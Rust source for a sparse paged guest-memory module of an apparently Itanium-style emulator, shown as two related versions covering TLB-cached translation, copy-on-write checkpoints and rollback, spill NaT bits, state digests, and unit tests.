            8 => data[off..off + 8].copy_from_slice(&value.to_le_bytes()),
            4 => data[off..off + 4].copy_from_slice(&(value as u32).to_le_bytes()),
            2 => data[off..off + 2].copy_from_slice(&(value as u16).to_le_bytes()),
            1 => data[off] = value as u8,
            sz => {
                for i in 0..sz as usize {
                    data[off + i] = (value >> (8 * i)) as u8;
                }
            }
        }
        // Overwriting any part of a spill slot invalidates its banked NaT —
        // skippable in O(1) when no NaT is banked (the common case).
        if !self.spill_nat.is_empty() {
            self.spill_nat.remove(&(addr & !7));
        }
        Ok(())
    }

    /// Sets or clears the banked NaT bit of the 8-byte spill slot at `addr`
    /// (callers must have just written the slot with `write_int`).
    pub fn set_spill_nat(&mut self, addr: u64, nat: bool) {
        if nat {
            self.spill_nat.insert(addr & !7);
        } else {
            self.spill_nat.remove(&(addr & !7));
        }
    }

    /// Reads the banked NaT bit of the 8-byte spill slot at `addr`
    /// (non-destructive, like `ld8.fill`).
    pub fn spill_nat(&self, addr: u64) -> bool {
        self.spill_nat.contains(&(addr & !7))
    }

    /// Reads `out.len()` bytes starting at `addr` (no alignment requirement).
    ///
    /// Runs page-span at a time; on error, spans before the faulting page
    /// have already been copied into `out` — exactly the bytes a per-byte
    /// loop would have produced, since permissions are page-granular.
    ///
    /// # Errors
    ///
    /// [`MemError`] if any byte is unimplemented or unmapped.
    pub fn read_bytes(&mut self, addr: u64, out: &mut [u8]) -> Result<(), MemError> {
        let mut done = 0usize;
        while done < out.len() {
            let a = addr.wrapping_add(done as u64);
            let off = (a % PAGE_SIZE) as usize;
            let span = (PAGE_USIZE - off).min(out.len() - done);
            let slot = self.slot_for(a, false)?;
            let data = self.page_bytes(slot);
            out[done..done + span].copy_from_slice(&data[off..off + span]);
            done += span;
        }
        Ok(())
    }

    /// Writes `data` starting at `addr` (no alignment requirement).
    ///
    /// Runs page-span at a time (one check + one journal touch + at most
    /// one COW fault per page); on error, spans before the faulting page
    /// have already been written, matching the per-byte loop's
    /// partial-write semantics.
    ///
    /// # Errors
    ///
    /// [`MemError`] if any byte is unimplemented or unmapped.
    pub fn write_bytes(&mut self, addr: u64, data: &[u8]) -> Result<(), MemError> {
        let mut done = 0usize;
        while done < data.len() {
            let a = addr.wrapping_add(done as u64);
            let off = (a % PAGE_SIZE) as usize;
            let span = (PAGE_USIZE - off).min(data.len() - done);
            let slot = self.slot_for(a, true)?;
            let frame = self.page_bytes_mut(slot);
            frame[off..off + span].copy_from_slice(&data[done..done + span]);
            if !self.spill_nat.is_empty() {
                // Invalidate every 8-byte spill slot the span overlaps.
                let first = a & !7;
                let last = (a + span as u64 - 1) & !7;
                let mut s = first;
                loop {
                    self.spill_nat.remove(&s);
                    if s == last {
                        break;
                    }
                    s += 8;
                }
            }
            done += span;
        }
        Ok(())
    }

    /// Reads a NUL-terminated string starting at `addr`, up to `max` bytes
    /// (NUL not included in the result).
    ///
    /// # Errors
    ///
    /// [`MemError`] if the string runs off mapped memory before a NUL or
    /// before `max` bytes.
    pub fn read_cstr(&mut self, addr: u64, max: usize) -> Result<Vec<u8>, MemError> {
        let mut out = Vec::new();
        let mut done = 0usize;
        while done < max {
            let a = addr.wrapping_add(done as u64);
            let off = (a % PAGE_SIZE) as usize;
            let span = (PAGE_USIZE - off).min(max - done);
            let slot = self.slot_for(a, false)?;
            let chunk = &self.page_bytes(slot)[off..off + span];
            match chunk.iter().position(|&b| b == 0) {
                Some(nul) => {
                    out.extend_from_slice(&chunk[..nul]);
                    return Ok(out);
                }
                None => out.extend_from_slice(chunk),
            }
            done += span;
        }
        Ok(out)
    }

    /// Number of distinct pages that have been touched (diagnostics).
    /// Under sharing this counts frame *headers*, not private bytes — see
    /// [`Memory::owned_pages`] / [`Memory::shared_pages`] for the split.
    pub fn resident_pages(&self) -> usize {
        self.table.frames.len()
    }

    /// Folds the observable memory state into `h`. All-zero pages digest
    /// identically to absent ones: region 0 is lazily zero-backed, so a page
    /// a read faulted in is indistinguishable from one never touched — and
    /// sharing state (`Zero`/`Shared`/`Owned`) never enters the digest,
    /// only contents do.
    pub(crate) fn digest_into(&self, h: &mut crate::snapshot::Fnv) {
        let mut slots: Vec<(u64, usize)> = self
            .table
            .frames
            .iter()
            .enumerate()
            .filter(|(_, f)| {
                !matches!(f.data, PageData::Zero) && f.data.bytes().iter().any(|&b| b != 0)
            })
            .map(|(s, f)| (f.page, s))
            .collect();
        slots.sort_unstable();
        for (_, slot) in &slots {
            let f = &self.table.frames[*slot];
            h.word(f.page);
            h.bytes(&f.data.bytes()[..]);
        }
        // Domain separators keep the variable-length sections unambiguous.
        h.word(u64::MAX);
        let mut mapped: Vec<u64> = self.table.mapped.iter().copied().collect();
        mapped.sort_unstable();
        for m in mapped {
            h.word(m);
        }
        h.word(u64::MAX);
        let mut nats: Vec<u64> = self.spill_nat.iter().copied().collect();
        nats.sort_unstable();
        for n in nats {
            h.word(n);
        }
    }

    /// A stable digest of the observable memory state — the memory portion
    /// of [`crate::Machine::state_digest`]. Sharing never enters it: a COW
    /// spawn and a deep copy with the same bytes digest identically.
    pub fn digest(&self) -> u64 {
        let mut h = crate::snapshot::Fnv::new();
        self.digest_into(&mut h);
        h.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_isa::make_vaddr;

    fn mapped() -> (Memory, u64) {
        let mut m = Memory::new();
        let base = make_vaddr(1, 0x10000);
        m.map_range(base, 0x2000);
        (m, base)
    }

    #[test]
    fn int_round_trip_all_sizes() {
        let (mut m, base) = mapped();
        for (size, val) in [(1u64, 0xab), (2, 0xbeef), (4, 0xdead_beef), (8, 0x0123_4567_89ab_cdef)]
        {
            m.write_int(base, size, val).unwrap();
            assert_eq!(m.read_int(base, size).unwrap(), val);
        }
    }

    #[test]
    fn little_endian_layout() {
        let (mut m, base) = mapped();
        m.write_int(base, 8, 0x0102_0304_0506_0708).unwrap();
        let mut bytes = [0u8; 8];
        m.read_bytes(base, &mut bytes).unwrap();
        assert_eq!(bytes, [8, 7, 6, 5, 4, 3, 2, 1]);
    }

    #[test]
    fn unaligned_int_access_rejected() {
        let (mut m, base) = mapped();
        assert_eq!(m.read_int(base + 1, 8), Err(MemError::Unaligned { addr: base + 1, size: 8 }));
        // …but byte-granularity accessors don't require alignment.
        m.write_bytes(base + 1, &[9]).unwrap();
        // The alignment error must also fire on the TLB-hit fast path.
        m.read_int(base, 8).unwrap();
        assert_eq!(m.read_int(base + 4, 8), Err(MemError::Unaligned { addr: base + 4, size: 8 }));
        // …and on the writable-hit fast path.
        m.write_int(base, 8, 1).unwrap();
        assert_eq!(
            m.write_int(base + 4, 8, 1),
            Err(MemError::Unaligned { addr: base + 4, size: 8 })
        );
    }

    #[test]
    fn unmapped_access_rejected() {
        let mut m = Memory::new();
        let a = make_vaddr(1, 0);
        assert_eq!(m.read_int(a, 8), Err(MemError::Unmapped { addr: a }));
    }

    #[test]
    fn unimplemented_bits_rejected() {
        let mut m = Memory::new();
        let bad = (1u64 << 61) | (1 << 55);
        assert_eq!(m.read_int(bad, 8), Err(MemError::Unimplemented { addr: bad }));
    }

    #[test]
    fn region_zero_is_lazily_backed() {
        let mut m = Memory::new();
        // No explicit mapping: tag space reads as zero and accepts writes.
        let tag = make_vaddr(0, 0x1234 * 8);
        assert_eq!(m.read_int(tag, 1).unwrap(), 0);
        m.write_int(tag, 1, 0xff).unwrap();
        assert_eq!(m.read_int(tag, 1).unwrap(), 0xff);
    }

    #[test]
    fn cstr_reading() {
        let (mut m, base) = mapped();
        m.write_bytes(base, b"hello\0world").unwrap();
        assert_eq!(m.read_cstr(base, 64).unwrap(), b"hello");
        // max cap respected when no NUL found in range
        assert_eq!(m.read_cstr(base, 3).unwrap(), b"hel");
    }

    #[test]
    fn map_range_page_granularity() {
        let mut m = Memory::new();
        let base = make_vaddr(2, 0x5000);
        m.map_range(base + 10, 1);
        // Whole containing page becomes mapped.
        assert!(m.is_mapped(base));
        assert!(!m.is_mapped(base + PAGE_SIZE));
    }

    #[test]
    #[should_panic(expected = "unimplemented bits")]
    fn map_range_rejects_noncanonical() {
        let mut m = Memory::new();
        m.map_range((1u64 << 61) | (1 << 50), 8);
    }

    #[test]
    fn tlb_counts_hits_and_misses() {
        let (mut m, base) = mapped();
        m.write_int(base, 8, 1).unwrap();
        let (_, misses) = m.tlb_stats();
        assert!(misses >= 1);
        for i in 0..16 {
            m.read_int(base + i * 8, 8).unwrap();
        }
        let (hits, misses_after) = m.tlb_stats();
        assert!(hits >= 16, "same-page accesses must hit the TLB (hits={hits})");
        assert_eq!(misses_after, misses, "no new misses on a hot page");
    }

    #[test]
    fn tlb_invalidated_by_rollback() {
        let mut m = Memory::new();
        let base = make_vaddr(1, 0x10000);
        m.begin_checkpoint();
        // Map + write inside the checkpoint, priming the TLB for the page.
        m.map_range(base, PAGE_SIZE);
        m.write_int(base, 8, 0xdead).unwrap();
        assert!(m.is_mapped(base));
        assert!(m.rollback_checkpoint());
        // The mapping was revoked; a stale TLB entry must not leak through.
        assert!(!m.is_mapped(base));
        assert_eq!(m.read_int(base, 8), Err(MemError::Unmapped { addr: base }));
    }

    #[test]
    fn repeated_rollback_to_same_checkpoint() {
        let (mut m, base) = mapped();
        m.write_int(base, 8, 111).unwrap();
        m.begin_checkpoint();
        for round in 0..3 {
            m.write_int(base, 8, 222 + round).unwrap();
            assert!(m.rollback_checkpoint());
            assert_eq!(m.read_int(base, 8).unwrap(), 111, "round {round}");
        }
    }

    #[test]
    fn spill_nat_survives_unrelated_stores_and_dies_on_overwrite() {
        let (mut m, base) = mapped();
        m.write_int(base, 8, 7).unwrap();
        m.set_spill_nat(base, true);
        // Store to a *different* slot: NaT survives (and the empty-bank
        // fast path is not taken, since the bank is non-empty).
        m.write_int(base + 8, 8, 9).unwrap();
        assert!(m.spill_nat(base));
        // Byte store into the slot kills it.
        m.write_bytes(base + 3, &[1]).unwrap();
        assert!(!m.spill_nat(base));
    }

    #[test]
    fn bulk_ops_cross_page_boundaries() {
        let mut m = Memory::new();
        let base = make_vaddr(1, 0x10000);
        m.map_range(base, 0x4000);
        let data: Vec<u8> = (0..=255u8).cycle().take(5000).collect();
        let start = base + PAGE_SIZE - 100;
        m.write_bytes(start, &data).unwrap();
        let mut back = vec![0u8; data.len()];
        m.read_bytes(start, &mut back).unwrap();
        assert_eq!(back, data);
    }

    #[test]
    fn bulk_write_faults_at_page_boundary_with_partial_write() {
        let mut m = Memory::new();
        let base = make_vaddr(1, 0x10000);
        m.map_range(base, PAGE_SIZE); // one page only
        let data = vec![0xaa; (PAGE_SIZE + 10) as usize];
        let err = m.write_bytes(base, &data).unwrap_err();
        assert_eq!(err, MemError::Unmapped { addr: base + PAGE_SIZE });
        // The mapped prefix was written before the fault.
        assert_eq!(m.read_int(base + PAGE_SIZE - 8, 8).unwrap(), 0xaaaa_aaaa_aaaa_aaaa);
    }

    #[test]
    fn clone_shares_pages_until_written() {
        let (mut m, base) = mapped();
        m.write_bytes(base, b"pristine").unwrap();
        m.freeze();
        assert_eq!((m.owned_pages(), m.shared_pages()), (0, 1));

        let mut a = m.clone();
        let mut b = m.clone();
        // Clones read the shared page without faulting a private copy.
        assert_eq!(a.read_int(base, 8).unwrap(), b.read_int(base, 8).unwrap());
        assert_eq!(a.owned_pages(), 0);
        assert_eq!(a.cow_faults(), 0);

        // First write COW-faults exactly one private page, leaving the
        // sibling and the origin untouched.
        a.write_int(base, 8, 0xdead).unwrap();
        assert_eq!((a.owned_pages(), a.cow_faults()), (1, 1));
        assert_eq!(a.read_int(base, 8).unwrap(), 0xdead);
        assert_eq!(&b.read_cstr(base, 16).unwrap(), b"pristine");
        assert_eq!(&m.read_cstr(base, 16).unwrap(), b"pristine");
        assert_eq!(b.owned_pages(), 0);

        // Repeat writes ride the writable TLB entry: no further faults.
        a.write_int(base + 8, 8, 1).unwrap();
        assert_eq!(a.cow_faults(), 1);
    }

    #[test]
    fn freeze_dedupes_all_zero_pages() {
        let (mut m, base) = mapped();
        // Dirty two pages, one of which ends up all-zero again.
        m.write_int(base, 8, 7).unwrap();
        m.write_int(base + PAGE_SIZE, 8, 9).unwrap();
        m.write_int(base + PAGE_SIZE, 8, 0).unwrap();
        let digest_before = {
            let mut h = crate::snapshot::Fnv::new();
            m.digest_into(&mut h);
            h.0
        };
        m.freeze();
        // The all-zero page became the canonical zero page; the non-zero
        // one became shared. Nothing observable moved.
        assert_eq!((m.owned_pages(), m.shared_pages(), m.zero_pages()), (0, 1, 1));
        let digest_after = {
            let mut h = crate::snapshot::Fnv::new();
            m.digest_into(&mut h);
            h.0
        };
        assert_eq!(digest_before, digest_after, "freeze must be digest-neutral");
        assert_eq!(m.read_int(base + PAGE_SIZE, 8).unwrap(), 0);
        assert_eq!(m.read_int(base, 8).unwrap(), 7);
    }

    #[test]
    fn lazy_reads_allocate_no_backing() {
        let mut m = Memory::new();
        let tag = make_vaddr(0, 0x9000);
        assert_eq!(m.read_int(tag, 8).unwrap(), 0);
        // The faulted-in tag page is the canonical zero page: resident as a
        // frame header, but zero private bytes.
        assert_eq!(m.resident_pages(), 1);
        assert_eq!((m.owned_pages(), m.shared_pages(), m.zero_pages()), (0, 0, 1));
        // Writing it takes the COW fault into a private page.
        m.write_int(tag, 8, 1).unwrap();
        assert_eq!((m.owned_pages(), m.zero_pages()), (1, 0));
        assert_eq!(m.cow_faults(), 1);
    }

    #[test]
    fn rollback_restores_pages_by_reference() {
        let (mut m, base) = mapped();
        m.write_bytes(base, b"origin").unwrap();
        m.freeze();
        let mut inst = m.clone();
        inst.begin_checkpoint();
        inst.write_int(base, 8, 0xbad).unwrap();
        // Journaling the shared page was an Arc bump, not a byte copy; the
        // write itself took the one COW fault.
        assert_eq!(inst.cow_faults(), 1);
        assert!(inst.rollback_checkpoint());
        assert_eq!(&inst.read_cstr(base, 16).unwrap(), b"origin");
        // Rolled-back page is shared again: the next write faults anew.
        inst.write_int(base, 8, 0xfeed).unwrap();
        assert_eq!(inst.cow_faults(), 2);
        assert_eq!(&m.read_cstr(base, 16).unwrap(), b"origin", "origin untouched");
    }

    #[test]
    fn checkpoint_write_rollback_digest_round_trip() {
        let (mut m, base) = mapped();
        m.write_bytes(base, b"seed state").unwrap();
        m.freeze();
        let digest = |mm: &Memory| {
            let mut h = crate::snapshot::Fnv::new();
            mm.digest_into(&mut h);
            h.0
        };
        let before = digest(&m);
        m.begin_checkpoint();
        m.write_bytes(base + 100, &[1, 2, 3]).unwrap();
        m.write_int(base + PAGE_SIZE, 8, 42).unwrap();
        assert_ne!(digest(&m), before);
        assert!(m.rollback_checkpoint());
        assert_eq!(digest(&m), before, "rollback must restore the exact digest");
    }
}
