//! Sparse paged guest memory.
//!
//! Pages are allocated on demand for *mapped* ranges; region 0 (the tag
//! space) is lazily zero-backed on first touch, modelling a kernel that
//! demand-faults the bitmap in, so instrumented code can touch the tag of any
//! mapped data address without explicit setup (§3.2).
//!
//! # Host performance
//!
//! Guest loads/stores are the interpreter's hottest operation, so the layout
//! is chosen for the host, not just the model (see DESIGN.md §8):
//!
//! * Page frames live in an arena (`frames`) indexed by a `page_idx` map, so
//!   a frame is reachable from a plain integer slot without hashing.
//! * A small direct-mapped software TLB caches `page → slot` translations. A
//!   TLB entry is only installed after a *successful* access, so a hit
//!   implies the page is implemented and mapped — the fast path needs only
//!   the alignment check to produce identical errors. The TLB is flushed on
//!   `map_range` and `rollback_checkpoint` (the only operations that change
//!   the translation or permission state) and hit/miss counters are exported
//!   via [`Memory::tlb_stats`].
//! * Bulk accessors (`read_bytes`/`write_bytes`/`read_cstr`) work per
//!   page-span: one permission check, one frame lookup, and one journal
//!   touch per page instead of per byte. Implementedness and mapping are
//!   page-granular, so per-span checks fault at exactly the byte the
//!   per-byte loop would have.
//! * Copy-on-write journaling stamps each frame with the generation of the
//!   last captured pre-image, making repeat `touch_for_write`s on the same
//!   page O(1) without a hash probe.
//!
//! None of this is visible to the model: modelled cycles come from the cost
//! model and cache simulator, never from host data-structure choices.

use std::collections::{HashMap, HashSet};

use shift_isa::{is_implemented, region_of};

/// Page size in bytes.
pub const PAGE_SIZE: u64 = 4096;

const PAGE_USIZE: usize = PAGE_SIZE as usize;

/// log2 of the number of software-TLB entries.
const TLB_BITS: u32 = 5;
const TLB_SIZE: usize = 1 << TLB_BITS;

/// Sentinel page number marking an empty TLB entry. Unreachable by real
/// translations: page `u64::MAX` would require addresses above the
/// implemented-bits ceiling.
const TLB_EMPTY: u64 = u64::MAX;

/// Error from a raw memory access (converted to a [`crate::Fault`] by the
/// executor, which adds the faulting `ip`).
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum MemError {
    /// Address has unimplemented bits set.
    Unimplemented {
        /// The offending address.
        addr: u64,
    },
    /// Address is not mapped.
    Unmapped {
        /// The offending address.
        addr: u64,
    },
    /// Access is not naturally aligned.
    Unaligned {
        /// The offending address.
        addr: u64,
        /// Access size in bytes.
        size: u64,
    },
}

impl MemError {
    /// The address involved in the error.
    pub fn addr(&self) -> u64 {
        match *self {
            MemError::Unimplemented { addr }
            | MemError::Unmapped { addr }
            | MemError::Unaligned { addr, .. } => addr,
        }
    }
}

impl std::fmt::Display for MemError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match *self {
            MemError::Unimplemented { addr } => write!(f, "unimplemented bits in {addr:#x}"),
            MemError::Unmapped { addr } => write!(f, "unmapped address {addr:#x}"),
            MemError::Unaligned { addr, size } => {
                write!(f, "unaligned {size}-byte access at {addr:#x}")
            }
        }
    }
}

impl std::error::Error for MemError {}

/// One resident page frame. `stamp` is the journal generation whose
/// pre-image capture already covered this frame (see
/// [`Memory::journal_touch`]).
#[derive(Clone, Debug)]
struct Frame {
    page: u64,
    data: Box<[u8; PAGE_USIZE]>,
    stamp: u64,
}

#[derive(Clone, Copy, Debug)]
struct TlbEntry {
    page: u64,
    slot: u32,
}

const EMPTY_TLB: [TlbEntry; TLB_SIZE] = [TlbEntry { page: TLB_EMPTY, slot: 0 }; TLB_SIZE];

/// Sparse paged memory with explicit mappings (plus lazily-backed region 0).
///
/// Besides byte contents, the memory tracks one NaT bit per 8-byte slot for
/// `st8.spill`/`ld8.fill`. Real Itanium banks these bits in the 64-bit `UNAT`
/// register and relies on the compiler to save/restore `UNAT` around spill
/// areas; modelling the bits as a per-slot side table is equivalent to a
/// compiler that manages `UNAT` correctly, without emitting the bookkeeping
/// code. Ordinary stores *clear* the slot's NaT bit (the spilled value is
/// gone), and ordinary loads never see it — only `ld8.fill` does.
#[derive(Clone, Debug)]
pub struct Memory {
    frames: Vec<Frame>,
    page_idx: HashMap<u64, u32>,
    mapped: HashSet<u64>,
    spill_nat: HashSet<u64>,
    journal: Option<Journal>,
    epoch: u64,
    /// Bumped on `begin_checkpoint` and `rollback_checkpoint`; a frame whose
    /// `stamp` equals this value already has its pre-image journaled.
    journal_gen: u64,
    tlb: [TlbEntry; TLB_SIZE],
    tlb_hits: u64,
    tlb_misses: u64,
}

impl Default for Memory {
    fn default() -> Memory {
        Memory {
            frames: Vec::new(),
            page_idx: HashMap::new(),
            mapped: HashSet::new(),
            spill_nat: HashSet::new(),
            journal: None,
            epoch: 0,
            journal_gen: 0,
            tlb: EMPTY_TLB,
            tlb_hits: 0,
            tlb_misses: 0,
        }
    }
}

/// Copy-on-write undo log for one active checkpoint.
///
/// Page *contents* are captured lazily: the first write to a page after the
/// checkpoint records its pre-image (`None` when the page did not exist
/// yet). The small bookkeeping sets (`mapped`, `spill_nat`) are captured
/// eagerly — they hold one entry per page / spill slot and cloning them is
/// far cheaper than intercepting every mutation.
#[derive(Clone, Debug, Default)]
struct Journal {
    pre_pages: HashMap<u64, Option<Box<[u8; PAGE_USIZE]>>>,
    pre_mapped: HashSet<u64>,
    pre_spill_nat: HashSet<u64>,
}

/// Natural-alignment check. Executor access sizes (`MemSize::bytes()`) are
/// always powers of two, so the common case is a mask test rather than the
/// `u64` division `is_multiple_of` costs on the hot load/store path; the
/// fallback keeps the documented any-size behaviour of the public accessors.
#[inline]
fn aligned(addr: u64, size: u64) -> bool {
    if size.is_power_of_two() {
        addr & (size - 1) == 0
    } else {
        addr.is_multiple_of(size)
    }
}

impl Memory {
    /// Creates an empty address space.
    pub fn new() -> Memory {
        Memory::default()
    }

    #[inline]
    fn tlb_index(page: u64) -> usize {
        // Multiplicative hashing spreads region and tag-space bits so a data
        // page and its tag page rarely collide in the direct-mapped array.
        (page.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> (64 - TLB_BITS)) as usize
    }

    /// Fast-path translation: `Some(slot)` iff the TLB holds `page`. A hit
    /// proves the page passed the full permission check when the entry was
    /// installed, and nothing has invalidated translations since.
    #[inline]
    fn tlb_lookup(&mut self, page: u64) -> Option<u32> {
        let e = self.tlb[Self::tlb_index(page)];
        if e.page == page {
            self.tlb_hits += 1;
            Some(e.slot)
        } else {
            None
        }
    }

    #[inline]
    fn tlb_flush(&mut self) {
        self.tlb = EMPTY_TLB;
    }

    /// Software-TLB hit/miss counters. Host-side diagnostics only: the TLB
    /// models nothing and contributes no modelled cycles.
    pub fn tlb_stats(&self) -> (u64, u64) {
        (self.tlb_hits, self.tlb_misses)
    }

    /// Full translation: permission checks, frame allocation, journaling
    /// (for writes), and TLB fill. Error order matches the historical
    /// `check()`: `Unimplemented` before `Unmapped`.
    fn resolve_slow(&mut self, addr: u64, for_write: bool) -> Result<u32, MemError> {
        self.tlb_misses += 1;
        if !is_implemented(addr) {
            return Err(MemError::Unimplemented { addr });
        }
        let page = addr / PAGE_SIZE;
        if !self.mapped.contains(&page) && region_of(addr) != 0 {
            return Err(MemError::Unmapped { addr });
        }
        let slot = match self.page_idx.get(&page) {
            Some(&slot) => {
                if for_write {
                    self.journal_touch(page, slot);
                }
                slot
            }
            None => {
                // Pre-image is `None`: the page did not exist, so rollback
                // drops it again. Reads allocate without journaling — an
                // all-zero page is observably identical to an absent one,
                // and a later write journals the (zero) content normally.
                let mut stamp = 0;
                if for_write {
                    if let Some(j) = &mut self.journal {
                        j.pre_pages.entry(page).or_insert(None);
                        stamp = self.journal_gen;
                    }
                }
                let slot = u32::try_from(self.frames.len()).expect("frame arena overflow");
                self.frames.push(Frame { page, data: Box::new([0u8; PAGE_USIZE]), stamp });
                self.page_idx.insert(page, slot);
                slot
            }
        };
        self.tlb[Self::tlb_index(page)] = TlbEntry { page, slot };
        Ok(slot)
    }

    /// Translation for byte-granularity accessors (no alignment concerns).
    #[inline]
    fn slot_for(&mut self, addr: u64, for_write: bool) -> Result<u32, MemError> {
        let page = addr / PAGE_SIZE;
        match self.tlb_lookup(page) {
            Some(slot) => {
                if for_write {
                    self.journal_touch(page, slot);
                }
                Ok(slot)
            }
            None => self.resolve_slow(addr, for_write),
        }
    }

    /// Records the pre-image of frame `slot` (backing `page`) before its
    /// first modification under the active checkpoint. The generation stamp
    /// makes repeat touches a single integer compare.
    #[inline]
    fn journal_touch(&mut self, page: u64, slot: u32) {
        let Some(j) = &mut self.journal else { return };
        let f = &mut self.frames[slot as usize];
        if f.stamp != self.journal_gen {
            f.stamp = self.journal_gen;
            j.pre_pages.entry(page).or_insert_with(|| Some(f.data.clone()));
        }
    }

    /// Maps (zero-fills) the pages covering `[addr, addr+len)`.
    ///
    /// # Panics
    ///
    /// Panics if the range touches unimplemented address bits — mappings are
    /// made by the loader/runtime, which must use canonical addresses.
    pub fn map_range(&mut self, addr: u64, len: u64) {
        if len == 0 {
            return;
        }
        let end = addr.checked_add(len - 1).expect("mapping wraps the address space");
        assert!(
            is_implemented(addr) && is_implemented(end),
            "mapping {addr:#x}+{len:#x} touches unimplemented bits"
        );
        let first = addr / PAGE_SIZE;
        let last = end / PAGE_SIZE;
        for page in first..=last {
            self.mapped.insert(page);
        }
        self.tlb_flush();
    }

    /// Returns `true` if the byte at `addr` is mapped (or lazily mappable —
    /// i.e. an implemented region-0 tag address).
    pub fn is_mapped(&self, addr: u64) -> bool {
        let page = addr / PAGE_SIZE;
        let e = self.tlb[Self::tlb_index(page)];
        if e.page == page {
            return true;
        }
        is_implemented(addr) && (self.mapped.contains(&page) || region_of(addr) == 0)
    }

    /// Arms a copy-on-write checkpoint: subsequent writes record page
    /// pre-images so [`Memory::rollback_checkpoint`] can undo them. Replaces
    /// any previous checkpoint. Returns the checkpoint's epoch.
    pub fn begin_checkpoint(&mut self) -> u64 {
        self.epoch += 1;
        self.journal_gen += 1;
        self.journal = Some(Journal {
            pre_pages: HashMap::new(),
            pre_mapped: self.mapped.clone(),
            pre_spill_nat: self.spill_nat.clone(),
        });
        self.epoch
    }

    /// Epoch of the active checkpoint (0 when none has ever been armed).
    pub fn checkpoint_epoch(&self) -> u64 {
        self.epoch
    }

    /// Returns `true` if a checkpoint is armed.
    pub fn has_checkpoint(&self) -> bool {
        self.journal.is_some()
    }

    /// Undoes every modification since [`Memory::begin_checkpoint`]: dirtied
    /// pages revert to their pre-images, pages that did not exist are
    /// dropped, and mappings / banked spill-NaT bits revert wholesale. The
    /// checkpoint stays armed, so the same point can be rolled back to again.
    /// Returns `false` (doing nothing) when no checkpoint is armed.
    pub fn rollback_checkpoint(&mut self) -> bool {
        if self.journal.is_none() {
            return false;
        }
        let (pre_pages, pre_mapped, pre_spill_nat) = {
            let j = self.journal.as_mut().expect("checkpoint armed");
            (j.pre_pages.drain().collect::<Vec<_>>(), j.pre_mapped.clone(), j.pre_spill_nat.clone())
        };
        // Frames keep stamps from the closed generation; bumping makes the
        // next write after this rollback journal a fresh pre-image.
        self.journal_gen += 1;
        for (page, pre) in pre_pages {
            match pre {
                Some(data) => {
                    let slot = self.page_idx[&page];
                    self.frames[slot as usize].data = data;
                }
                None => self.remove_page(page),
            }
        }
        self.mapped = pre_mapped;
        self.spill_nat = pre_spill_nat;
        // Rollback can drop pages and revoke mappings: every cached
        // translation is suspect.
        self.tlb_flush();
        true
    }

    /// Removes `page`'s frame from the arena (`swap_remove` + index fixup
    /// for the frame that moved into the vacated slot).
    fn remove_page(&mut self, page: u64) {
        let Some(slot) = self.page_idx.remove(&page) else { return };
        self.frames.swap_remove(slot as usize);
        if let Some(moved) = self.frames.get(slot as usize) {
            self.page_idx.insert(moved.page, slot);
        }
    }

    /// Drops the active checkpoint (if any) without undoing anything.
    pub fn discard_checkpoint(&mut self) {
        self.journal = None;
    }

    /// Number of pages dirtied since the active checkpoint was armed (0
    /// when none is armed) — the copy-on-write footprint of a rollback.
    pub fn dirty_pages(&self) -> usize {
        self.journal.as_ref().map_or(0, |j| j.pre_pages.len())
    }

    /// Reads a naturally-aligned little-endian integer of `size` ∈ {1,2,4,8}
    /// bytes, zero-extended to `u64`.
    ///
    /// # Errors
    ///
    /// [`MemError`] on unimplemented, unmapped, or unaligned access.
    pub fn read_int(&mut self, addr: u64, size: u64) -> Result<u64, MemError> {
        let page = addr / PAGE_SIZE;
        let slot = match self.tlb_lookup(page) {
            // A hit proves implemented + mapped; only alignment can fail.
            Some(slot) => {
                if !aligned(addr, size) {
                    return Err(MemError::Unaligned { addr, size });
                }
                slot
            }
            None => {
                // Historical error order: unimplemented, unaligned, unmapped.
                if !is_implemented(addr) {
                    return Err(MemError::Unimplemented { addr });
                }
                if !aligned(addr, size) {
                    return Err(MemError::Unaligned { addr, size });
                }
                self.resolve_slow(addr, false)?
            }
        };
        let data = &self.frames[slot as usize].data;
        let off = (addr % PAGE_SIZE) as usize;
        Ok(match size {
            8 => u64::from_le_bytes(data[off..off + 8].try_into().expect("8-byte slice")),
            4 => {
                u64::from(u32::from_le_bytes(data[off..off + 4].try_into().expect("4-byte slice")))
            }
            2 => {
                u64::from(u16::from_le_bytes(data[off..off + 2].try_into().expect("2-byte slice")))
            }
            1 => u64::from(data[off]),
            sz => {
                let mut v = 0u64;
                for i in (0..sz as usize).rev() {
                    v = (v << 8) | u64::from(data[off + i]);
                }
                v
            }
        })
    }

    /// Writes a naturally-aligned little-endian integer of `size` ∈ {1,2,4,8}
    /// bytes (value truncated to `size`).
    ///
    /// # Errors
    ///
    /// [`MemError`] on unimplemented, unmapped, or unaligned access.
    pub fn write_int(&mut self, addr: u64, size: u64, value: u64) -> Result<(), MemError> {
        let page = addr / PAGE_SIZE;
        let slot = match self.tlb_lookup(page) {
            Some(slot) => {
                if !aligned(addr, size) {
                    return Err(MemError::Unaligned { addr, size });
                }
                self.journal_touch(page, slot);
                slot
            }
            None => {
                if !is_implemented(addr) {
                    return Err(MemError::Unimplemented { addr });
                }
                if !aligned(addr, size) {
                    return Err(MemError::Unaligned { addr, size });
                }
                self.resolve_slow(addr, true)?
            }
        };
        let data = &mut self.frames[slot as usize].data;
        let off = (addr % PAGE_SIZE) as usize;
        match size {
            8 => data[off..off + 8].copy_from_slice(&value.to_le_bytes()),
            4 => data[off..off + 4].copy_from_slice(&(value as u32).to_le_bytes()),
            2 => data[off..off + 2].copy_from_slice(&(value as u16).to_le_bytes()),
            1 => data[off] = value as u8,
            sz => {
                for i in 0..sz as usize {
                    data[off + i] = (value >> (8 * i)) as u8;
                }
            }
        }
        // Overwriting any part of a spill slot invalidates its banked NaT —
        // skippable in O(1) when no NaT is banked (the common case).
        if !self.spill_nat.is_empty() {
            self.spill_nat.remove(&(addr & !7));
        }
        Ok(())
    }

    /// Sets or clears the banked NaT bit of the 8-byte spill slot at `addr`
    /// (callers must have just written the slot with `write_int`).
    pub fn set_spill_nat(&mut self, addr: u64, nat: bool) {
        if nat {
            self.spill_nat.insert(addr & !7);
        } else {
            self.spill_nat.remove(&(addr & !7));
        }
    }

    /// Reads the banked NaT bit of the 8-byte spill slot at `addr`
    /// (non-destructive, like `ld8.fill`).
    pub fn spill_nat(&self, addr: u64) -> bool {
        self.spill_nat.contains(&(addr & !7))
    }

